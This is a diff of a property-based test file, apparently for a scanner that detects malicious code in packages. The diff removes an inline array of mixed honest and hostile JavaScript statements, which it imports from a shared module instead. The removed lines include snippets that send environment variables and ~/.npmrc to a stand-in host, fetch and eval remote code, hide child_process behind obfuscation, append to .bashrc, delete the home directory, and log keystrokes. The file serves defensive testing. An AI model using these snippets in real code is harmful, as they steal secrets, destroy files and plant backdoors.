@@ -1,5 +1,6 @@
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
+import { statements } from '../../test/statements.ts';
 import { SourceFile } from '../source/source-file.ts';
 import { fileRules } from './archive-rules.ts';
 import { needOf } from './needed-words.ts';
@@ -25,32 +26,6 @@ describe('a file is parsed', () => {
     expect(needs(text)).toBe(expected);
   });
 });
-
-/** Parts of attacks and of honest code, which may stand beside each other in any combination. */
-const statements = [
-  `const { exec: run } = require('child_process');`,
-  `const env = process.env;`,
-  `const hidden = Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString();`,
-  `const joined = 'child_' + 'process';`,
-  `const letters = String.fromCharCode(101, 118, 97, 108);`,
-  `require('https').request({ host: 'x.invalid' }).end(JSON.stringify(process.env));`,
-  `require('https').get('https://x.invalid', (r) => r.on('data', (d) => eval(d.toString())));`,
-  `fetch('https://x.invalid', { method: 'POST', body: require('os').hostname() + require('os').userInfo().username + process.cwd() });`,
-  `fetch('https://x.invalid', { method: 'POST', body: require('fs').readFileSync(require('os').homedir() + '/.npmrc') });`,
-  `new Function('a', Buffer.from(a, 'hex').toString())();`,
-  `globalThis[letters](code);`,
-  `require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString()).exec(c);`,
-  `require('child_' + 'process').exec(c);`,
-  `require('fs').appendFileSync(require('os').homedir() + '/.bashrc', line);`,
-  `require('fs').writeFileSync('../left-pad/index.js', text);`,
-  `require('fs').unlinkSync(__filename);`,
-  `require('fs').rmSync(require('os').homedir(), { recursive: true });`,
-  `require('fs').writeFileSync('./payload.js', Buffer.from(text, 'base64')); require('./payload.js');`,
-  `import('https://x.invalid/a.mjs');`,
-  `document.addEventListener('keydown', (e) => fetch('https://x.invalid?' + e.key));`,
-  `window.fetch = () => '0x71C7656EC7ab88b098defB751B7401B5f6d8976F';`,
-  `module.exports = (a) => a + 1;`,
-];
 
 test('a rule finds nothing over the tree of a file that is not parsed at once', () => {
   const program = fc.subarray(statements, { maxLength: 5 }).map((parts) => parts.join('\n'));
